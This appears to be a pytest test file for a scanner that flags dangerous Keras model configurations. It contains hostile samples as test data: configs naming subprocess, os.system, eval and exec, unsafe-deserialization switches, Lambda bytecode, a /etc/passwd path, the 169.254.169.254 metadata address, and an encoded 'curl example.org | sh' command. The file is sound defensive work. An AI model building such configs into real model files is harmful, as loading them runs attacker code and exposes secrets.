"""Keras configurations: names that Keras would look up, one by one."""

import base64
import json

import pytest

from tradewind.data.model_files.scanner import scan_bytes


def layer(name, module="keras.layers", registered=None, **config):
    return {"module": module, "class_name": name, "config": config, "registered_name": registered}


def judged(*layers, **more):
    value = {"module": "keras", "class_name": "Sequential", "config": {"layers": list(layers)}, **more}
    scan = scan_bytes(json.dumps(value).encode())
    return scan.verdict, {each.rule for each in scan.findings}


def function(config, module="builtins", registered="function"):
    return {"module": module, "class_name": "function", "config": config, "registered_name": registered}


BENIGN = [
    layer(
        "Dense", units=3, activation="relu", kernel_initializer=layer("GlorotUniform", "keras.initializers")
    ),
    layer("Dense", module=None),
    layer("InputLayer", batch_shape=[None, 4]),
    layer("Functional", "keras.src.models.functional", "Functional"),
    layer("Functional", "keras.src.engine.functional", "Functional"),
    layer("Add", "keras.src.ops.numpy"),
    layer("Adam", "keras.optimizers"),
    layer("DTypePolicy", "keras", dtype="float32"),
    layer("StringLookup", vocabulary=None),
    layer("StringLookup", vocabulary=["a", "b"]),
    layer("Activation", activation=function("relu")),
    layer("Activation", activation=function("gelu", "keras.activations", "gelu")),
    layer("Normalization", mean={"class_name": "__numpy__", "config": {"value": [1], "dtype": "float32"}}),
    layer("TFOpLambda", function="math.add"),
    layer("Conv2D", kernel_size={"class_name": "__tuple__", "items": [3, 3]}),
]


@pytest.mark.parametrize("told", BENIGN, ids=range(len(BENIGN)))
def test_keras_own_parts_are_clean(told):
    assert judged(told) == ("clean", set())


MALICIOUS = {
    "process": (layer("Popen", "subprocess", args=["id"]), "keras-unknown-class"),
    "system": (layer("system", "os"), "keras-unknown-class"),
    "builtin": (layer("eval", "builtins"), "keras-unknown-class"),
    "function": (layer("Activation", activation=function("exec")), "keras-unknown-class"),
    "function of os": (function("system", "os"), "keras-unknown-class"),
    "download": (function("get_file", "keras.utils"), "keras-unknown-class"),
    "run string": (function("runstring", "numpy.testing._private.utils"), "keras-unknown-class"),
    "prefix": (layer("Dense", "keras.layers.evil"), "keras-unknown-class"),
    "load": (function("load_model", "keras.models"), "keras-unknown-class"),
    "switch": (function("enable_unsafe_deserialization", "keras.config"), "keras-unsafe-switch"),
    "switch as class": (layer("enable_unsafe_deserialization", "keras.config"), "keras-unsafe-switch"),
    "lambda": (
        layer("Lambda", function={"class_name": "__lambda__", "config": {"code": "4wA="}}),
        "keras-lambda",
    ),
    "old lambda": (layer("Lambda", None, function=["4wA=", None, None]), "keras-lambda"),
    "bare lambda": ({"class_name": "__lambda__", "config": {"value": "4wA="}}, "keras-lambda"),
    "registered": (layer("Mine", "builtins", "Custom>Mine"), "keras-custom-object"),
    "hidden": (layer("Dense", registered="Evil>Dense"), "keras-custom-object"),
    "saved model": (layer("TFSMLayer", filepath="/tmp/x"), "keras-code-class"),
    "torch": (layer("TorchModuleWrapper", inner="x"), "keras-code-class"),
    "file": (layer("TextVectorization", vocabulary="/etc/passwd"), "keras-file"),
    "address": (layer("StringLookup", vocabulary="http://169.254.169.254/"), "keras-file"),
    "no text": ({"class_name": ["os"], "module": "x", "config": {}}, "keras-unknown-class"),
    "tensorflow": (layer("TFOpLambda", None, function="io.write_file"), "keras-unknown-class"),
    "deep": (layer("Dense", a={"b": [{"c": layer("Popen", "subprocess")}]}), "keras-unknown-class"),
}


@pytest.mark.parametrize("name", MALICIOUS)
def test_what_keras_would_import_or_run_is_blocked(name):
    told, rule = MALICIOUS[name]
    verdict, rules = judged(told)
    assert verdict == "blocked" and rule in rules, rules


def test_it_is_found_beside_the_layers_too():
    compiled = {"optimizer": "adam", "loss": function("system", "os")}
    assert judged(compile_config=compiled)[0] == "blocked"


def test_the_words_of_a_lambda_are_shown_and_not_run():
    code = base64.b64encode(b"\xe3\x00os.system\x00curl example.org | sh\x00").decode()
    value = {
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": code}}},
    }
    scan = scan_bytes(json.dumps(value).encode())
    assert any("curl example.org" in each.preview for each in scan.findings if each.rule == "keras-code-text")
